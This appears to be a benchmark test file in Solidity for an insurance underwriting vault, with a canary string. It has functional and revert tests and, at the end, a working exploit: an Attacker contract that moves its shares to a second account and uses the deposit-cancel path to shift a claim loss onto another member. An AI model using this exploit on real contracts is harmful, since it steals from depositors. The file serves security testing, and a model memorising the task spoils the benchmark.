// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-66e69b53-809c-431a-a2e0-de58fad9172c

import "./UnderwritingVault.sol";
import {PolicyDesk} from "./context/PolicyDesk.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usdc is ERC20, ERC20Permit {
    constructor() ERC20("USD Coin", "USDC") ERC20Permit("USD Coin") {
        _mint(msg.sender, 10_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Stray is ERC20 {
    constructor() ERC20("Stray", "STR") {
        _mint(msg.sender, 5e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_774_000_000;
    uint256 private constant KEY = 0xB0B;
    bytes32 private constant MARINE = "marine cargo";
    bytes32 private constant ROAD = "road freight";
    address private constant ANA = address(0xA9A);
    address private constant CARRIER = address(0xCA44);
    address private constant ASSESSOR = address(0xA55E);
    address private constant TREASURY = address(0x7EA);

    Usdc private coin;
    ClaimsRegistry private registry;
    UnderwritingVault private vault;
    PolicyDesk private desk;
    Attacker private mallory;
    address private bo;

    function setUp() public {
        vm.warp(START);
        coin = new Usdc();
        registry = new ClaimsRegistry(ASSESSOR);
        vault = new UnderwritingVault(coin, registry, 180 days, 2_000_000e6, TREASURY);
        desk = new PolicyDesk(vault, TREASURY);
        registry.connect(address(vault), desk);
        desk.setRate(MARINE, 500);
        desk.setCoverLimit(400_000e6);
        mallory = new Attacker(vault, coin);
        bo = vm.addr(KEY);
        coin.transfer(ANA, 300_000e6);
        coin.transfer(bo, 200_000e6);
        coin.transfer(CARRIER, 50_000e6);
        coin.transfer(address(mallory), 100_010e6);
        vm.startPrank(ANA);
        coin.approve(address(vault), type(uint256).max);
        vault.deposit(300_000e6);
        vm.stopPrank();
        mallory.join(100_000e6);

        vm.startPrank(CARRIER);
        coin.approve(address(desk), type(uint256).max);
        desk.buy(MARINE, 200_000e6, 73 days, 2_000e6);
        vm.stopPrank();
        vm.warp(START + 10 days);
        vm.prank(ASSESSOR);
        registry.announce(0, 200_000e6);
        vm.warp(START + 12 days);
    }

    // What the other member has, and gets out of the pot when all announced claims are paid.
    function othersWorth() public view returns (uint256) {
        uint256 claims = registry.pending();
        uint256 rest = vault.pot() > claims ? vault.pot() - claims : 0;
        uint256 all = vault.totalSupply();
        return coin.balanceOf(ANA) + (all == 0 ? 0 : (rest * vault.balanceOf(ANA)) / all);
    }

    function _permit(uint256 amount) private returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, bo, address(vault), amount, coin.nonces(bo), START + 365 days));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", coin.DOMAIN_SEPARATOR(), hash)));
    }

    function test_Regular() public {
        require(othersWorth() == 150_000e6, "three quarters of the rest");
        require(vault.premiums() == 1_800e6 && coin.balanceOf(TREASURY) == 200e6, "premium of the first policy");
        require(vault.premiumOf(ANA) == 1_350e6 && vault.premiumOf(bo) == 0, "three quarters of the premium");
        require(vault.freePot() == 200_000e6 && vault.decimals() == 6 && vault.entryOpen(), "views");

        // A new member has second thoughts, and comes back.
        (uint8 v, bytes32 r, bytes32 s) = _permit(40_000e6);
        vm.startPrank(bo);
        vault.depositWithPermit(40_000e6, START + 365 days, v, r, s);
        coin.approve(address(vault), 10_000e6);
        vault.depositWithPermit(10e6, START + 365 days, v, r, s);
        vm.warp(START + 14 days);
        vault.deposit(10_000e6 - 10e6);
        require(vault.worthOf(bo) == 50_000e6 && vault.cap() == 2_000_000e6, "worth what was paid in");
        require(vault.cancelDeposit() == 50_000e6 && vault.balanceOf(bo) == 0, "taken back");
        require(coin.balanceOf(bo) == 200_000e6 && vault.pot() == 400_000e6, "in full");
        vm.warp(START + 16 days);
        coin.approve(address(vault), type(uint256).max);
        vault.deposit(100_000e6);
        vault.approve(ANA, 30_000e6);
        vault.transfer(ANA, 10_000e6);
        vm.stopPrank();
        vm.startPrank(ANA);
        vault.transferFrom(bo, ANA, 10_000e6);
        vault.transfer(bo, 20_000e6);
        vm.stopPrank();
        _policies();

        // The claim is paid: 300,000 are left of 500,000.
        vm.warp(START + 17 days);
        require(vault.payClaim(0) == 200_000e6, "claim is paid");
        require(coin.balanceOf(address(0xD0)) == 0 && coin.balanceOf(CARRIER) > 240_000e6, "to the holder");
        require(vault.pot() == 300_000e6 && vault.worthOf(ANA) == 180_000e6 && vault.impaired(), "all bear it");
        vm.prank(ASSESSOR);
        require(registry.announce(1, 20_000e6) == 1, "another claim");
        require(vault.freePot() == 280_000e6, "free pot");
        vm.prank(ASSESSOR);
        registry.withdrawClaim(1);
        require(registry.pending() == 0 && registry.claimedOf(1) == 0, "withdrawn");
        _owner();

        coin.approve(address(vault), 200e6);
        vm.warp(START + 179 days);
        vault.addPremium(200e6);
        uint256 all = vault.premiums();
        desk.release(0);
        require(desk.coverSold() == 50_000e6, "released");
        vm.warp(START + 194 days);
        vm.prank(ANA);
        (uint256 principal, uint256 premium) = vault.withdraw(300_000e6);
        require(principal == 180_000e6 && premium == all * 3 / 5, "three fifths");
        vm.startPrank(bo);
        vault.withdraw(100_000e6);
        vm.stopPrank();
        mallory.leave();
        require(vault.pot() == 0 && vault.premiums() == 0 && coin.balanceOf(address(vault)) == 0, "all is shared");
        vault.transferOwnership(ANA);
        vm.startPrank(ANA);
        vault.acceptOwnership();
        require(vault.sweepPremiums() == 0, "nothing left");
        vault.renounceOwnership();
        vm.stopPrank();
    }

    function _policies() private {
        desk.setRate(ROAD, 1_000);
        desk.setCommission(0);
        require(desk.quote(ROAD, 50_000e6, 36.5 days) == 500e6, "quote");
        vm.startPrank(CARRIER);
        require(desk.buy(ROAD, 50_000e6, 36.5 days, 500e6) == 1, "second policy");
        desk.assign(1, address(0xD0));
        vm.stopPrank();
        (address holder, uint64 end, bool released, uint256 cover) = desk.policies(1);
        require(holder == address(0xD0) && end == START + 52.5 days && !released && cover == 50_000e6, "policy");
        require(vault.premiums() == 2_300e6, "no commission");
        desk.setPaused(true);
        desk.setPaused(false);
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.acceptOwnership();
    }

    function _owner() private {
        vault.setCap(500_000e6);
        vault.setTreasury(address(0x7EB));
        vault.setPaused(true);
        require(vault.paused(), "paused");
        vault.setPaused(false);
        coin.transfer(address(vault), 3e6);
        vault.rescue(coin);
        Stray stray = new Stray();
        stray.transfer(address(vault), 5e18);
        vault.rescue(stray);
        require(coin.balanceOf(address(0x7EB)) == 3e6 && stray.balanceOf(address(0x7EB)) == 5e18, "rescued");
        registry.grantRole(registry.ASSESSOR_ROLE(), address(0xA2));
        registry.revokeRole(registry.ASSESSOR_ROLE(), address(0xA2));
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert("bad season");
        new UnderwritingVault(coin, registry, 90 days - 1, 1e6, TREASURY);
        vm.expectRevert("bad season");
        new UnderwritingVault(coin, registry, 400 days + 1, 1e6, TREASURY);
        vm.expectRevert("cap too high");
        new UnderwritingVault(coin, registry, 90 days, 50_000_000e6 + 1, TREASURY);
        vm.expectRevert("no treasury");
        new UnderwritingVault(coin, registry, 400 days, 50_000_000e6, address(0));
        vm.expectRevert("no treasury");
        new PolicyDesk(vault, address(0));
        vm.expectRevert("connected");
        registry.connect(address(vault), desk);
    }

    function test_RefusesDeposits() public {
        vm.startPrank(bo);
        coin.approve(address(vault), type(uint256).max);
        vm.expectRevert("too little");
        vault.deposit(10e6 - 1);
        vm.stopPrank();
        vault.setCap(400_000e6 + 11e6);
        vm.startPrank(bo);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.AboveCap.selector, 400_011e6));
        vault.deposit(11e6 + 1);
        vault.deposit(11e6);
        vm.stopPrank();
        vault.setCap(1_000_000e6);
        vault.setPaused(true);
        vm.prank(bo);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.deposit(10e6);
        vault.setPaused(false);
        vm.warp(START + 150 days);
        vm.prank(bo);
        vault.deposit(10e6);
        vm.warp(START + 150 days + 1);
        vm.prank(bo);
        vm.expectRevert(UnderwritingVault.EntryClosed.selector);
        vault.deposit(10e6);
    }

    function test_RefusesDepositsAfterClaims() public {
        vm.warp(START + 17 days);
        vault.payClaim(0);
        vm.startPrank(bo);
        coin.approve(address(vault), type(uint256).max);
        vm.expectRevert(UnderwritingVault.Impaired.selector);
        vault.deposit(10e6);
        vm.stopPrank();
    }

    function test_RefusesCancelling() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.TooLate.selector, START + 2 days));
        vault.cancelDeposit();
        vm.startPrank(bo);
        coin.approve(address(vault), type(uint256).max);
        vault.deposit(20e6);
        vault.cancelDeposit();
        vm.expectRevert("nothing to cancel");
        vault.cancelDeposit();
        vault.deposit(20e6);
        vm.warp(START + 14 days + 1);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.TooLate.selector, START + 14 days));
        vault.cancelDeposit();
        vm.stopPrank();
    }

    // Less what was paid for claims in between.
    function test_RefusesMoreThanAPart() public {
        vm.warp(START + 16 days);
        vm.startPrank(bo);
        coin.approve(address(vault), type(uint256).max);
        vault.deposit(100_000e6);
        vm.warp(START + 17 days);
        vault.payClaim(0);
        require(vault.cancelDeposit() == 60_000e6, "three fifths");
        vm.stopPrank();
    }

    function test_RefusesWithdrawals() public {
        vm.warp(START + 17 days);
        vault.payClaim(0);
        vm.warp(START + 194 days - 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.SeasonRunning.selector, START + 194 days));
        vault.withdraw(1);
        vm.warp(START + 194 days);
        vm.startPrank(ANA);
        vm.expectRevert();
        vault.withdraw(300_000e6 + 1);
        vault.withdraw(300_000e6);
        vm.stopPrank();
    }

    function test_RefusesWithdrawalsBeforeClaims() public {
        vm.warp(START + 194 days);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.ClaimsPending.selector, 200_000e6));
        vault.withdraw(1);
    }

    function test_RefusesPremiums() public {
        coin.approve(address(vault), 10e6);
        vm.warp(START + 180 days);
        vm.expectRevert("season is over");
        vault.addPremium(1e6);
        UnderwritingVault other = new UnderwritingVault(coin, registry, 90 days, 1_000e6, TREASURY);
        coin.approve(address(other), 1_000e6);
        vm.expectRevert("no members");
        other.addPremium(1e6);
        other.deposit(100e6);
        other.addPremium(7e6);
        vm.expectRevert(abi.encodeWithSelector(UnderwritingVault.SeasonRunning.selector, START + 284 days));
        other.sweepPremiums();
        vm.warp(START + 182 days);
        other.cancelDeposit();
        vm.warp(START + 284 days);
        uint256 before = coin.balanceOf(TREASURY);
        require(other.sweepPremiums() == 7e6 && coin.balanceOf(TREASURY) == before + 7e6, "swept");
        vm.expectRevert("members left");
        vault.sweepPremiums();
    }

    function test_RefusesClaims() public {
        vm.warp(START + 17 days - 1);
        vm.expectRevert(abi.encodeWithSelector(ClaimsRegistry.NotPayable.selector, 0));
        vault.payClaim(0);
        vm.warp(START + 17 days);
        vm.expectRevert(ClaimsRegistry.NotVault.selector);
        registry.close(0);
        vault.payClaim(0);
        vm.expectRevert(abi.encodeWithSelector(ClaimsRegistry.NotPayable.selector, 0));
        vault.payClaim(0);
        vm.startPrank(ASSESSOR);
        vm.expectRevert("not open");
        registry.withdrawClaim(0);
        vm.expectRevert("no amount");
        registry.announce(0, 0);
        vm.expectRevert(abi.encodeWithSelector(ClaimsRegistry.OverCover.selector, 0, 1));
        registry.announce(0, 1);
        vm.stopPrank();
        vm.startPrank(CARRIER);
        desk.buy(MARINE, 50_000e6, 7 days, 1_000e6);
        vm.stopPrank();
        vm.warp(START + 38 days - 1);
        vm.prank(ASSESSOR);
        registry.announce(1, 1);
        vm.warp(START + 38 days);
        vm.prank(ASSESSOR);
        vm.expectRevert("too late");
        registry.announce(1, 1);
    }

    function test_RefusesPolicies() public {
        vm.startPrank(CARRIER);
        vm.expectRevert(abi.encodeWithSelector(PolicyDesk.BadTerm.selector, 7 days - 1));
        desk.buy(MARINE, 1_000e6, 7 days - 1, 1_000e6);
        vm.expectRevert(abi.encodeWithSelector(PolicyDesk.BadTerm.selector, 90 days + 1));
        desk.buy(MARINE, 1_000e6, 90 days + 1, 1_000e6);
        vm.expectRevert("cover too small");
        desk.buy(MARINE, 1_000e6 - 1, 7 days, 1_000e6);
        vm.expectRevert("sold out");
        desk.buy(MARINE, 200_000e6 + 1, 7 days, 1_000e6);
        vm.expectRevert(abi.encodeWithSelector(PolicyDesk.PremiumAbove.selector, 10e6 - 1, 10e6));
        desk.buy(MARINE, 1_000e6, 73 days, 10e6 - 1);
        vm.expectRevert(abi.encodeWithSelector(PolicyDesk.NotOnSale.selector, ROAD));
        desk.buy(ROAD, 1_000e6, 73 days, 1_000e6);
        vm.expectRevert("no holder");
        desk.assign(0, address(0));
        vm.stopPrank();
        vm.expectRevert("not your policy");
        desk.assign(0, ANA);
        desk.setPaused(true);
        vm.prank(CARRIER);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.buy(MARINE, 1_000e6, 73 days, 10e6);
        desk.setPaused(false);
        vm.warp(START + 87 days - 1);
        vm.expectRevert("still reporting");
        desk.release(0);
        vm.warp(START + 87 days);
        desk.release(0);
        vm.expectRevert("released");
        desk.release(0);
        vm.warp(START + 100 days + 1);
        vm.prank(CARRIER);
        vm.expectRevert("past the season");
        desk.buy(MARINE, 1_000e6, 80 days, 1_000e6);
    }

    function test_RefusesBadSettings() public {
        vm.expectRevert("cap too high");
        vault.setCap(50_000_000e6 + 1);
        vm.expectRevert("no treasury");
        vault.setTreasury(address(0));
        vm.expectRevert("rate too high");
        desk.setRate(MARINE, 3_001);
        vm.expectRevert("commission too high");
        desk.setCommission(2_001);
        desk.setRate(MARINE, 3_000);
        desk.setCommission(2_000);
    }

    function test_RefusesStrangers() public {
        bytes memory noAssessor = abi.encodeWithSelector(
            IAccessControl.AccessControlUnauthorizedAccount.selector, ANA, registry.ASSESSOR_ROLE()
        );
        vm.startPrank(ANA);
        _refuse();
        vault.setCap(1e6);
        _refuse();
        vault.setTreasury(ANA);
        _refuse();
        vault.setPaused(true);
        _refuse();
        vault.rescue(coin);
        _refuse();
        vault.transferOwnership(ANA);
        _refuse();
        vault.renounceOwnership();
        _refuse();
        desk.setRate(ROAD, 1);
        _refuse();
        desk.setCoverLimit(1);
        _refuse();
        desk.setCommission(0);
        _refuse();
        desk.setPaused(true);
        vm.expectRevert(noAssessor);
        registry.announce(0, 1);
        vm.expectRevert(noAssessor);
        registry.withdrawClaim(0);
        vm.stopPrank();
    }

    function test_RefusesStrangersElsewhere() public {
        ClaimsRegistry empty = new ClaimsRegistry(ASSESSOR);
        UnderwritingVault other = new UnderwritingVault(coin, empty, 90 days, 1_000e6, TREASURY);
        vm.startPrank(ANA);
        vm.expectRevert();
        empty.connect(ANA, desk);
        vm.warp(START + 130 days);
        _refuse();
        other.sweepPremiums();
        vm.stopPrank();
    }

    function _refuse() private {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = othersWorth();
        exploit();
        require(othersWorth() + 45_000e6 <= before, "the others bear it");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Account {
    UnderwritingVault internal vault;
    Usdc internal coin;

    constructor(UnderwritingVault v, Usdc c) {
        vault = v;
        coin = c;
        c.approve(address(v), type(uint256).max);
    }

    function join(uint256 amount) external {
        vault.deposit(amount);
    }

    function cancel() external {
        vault.cancelDeposit();
    }

    function leave() external {
        vault.withdraw(vault.balanceOf(address(this)));
    }
}

/// A member like any other, which opens a second account.
contract Attacker is Account {
    constructor(UnderwritingVault v, Usdc c) Account(v, c) {}

    function run() external {
        Account second = new Account(vault, coin);
        vault.transfer(address(second), vault.balanceOf(address(this)));
        coin.transfer(address(second), 10e6);
        second.join(10e6);
        second.cancel();
    }
}
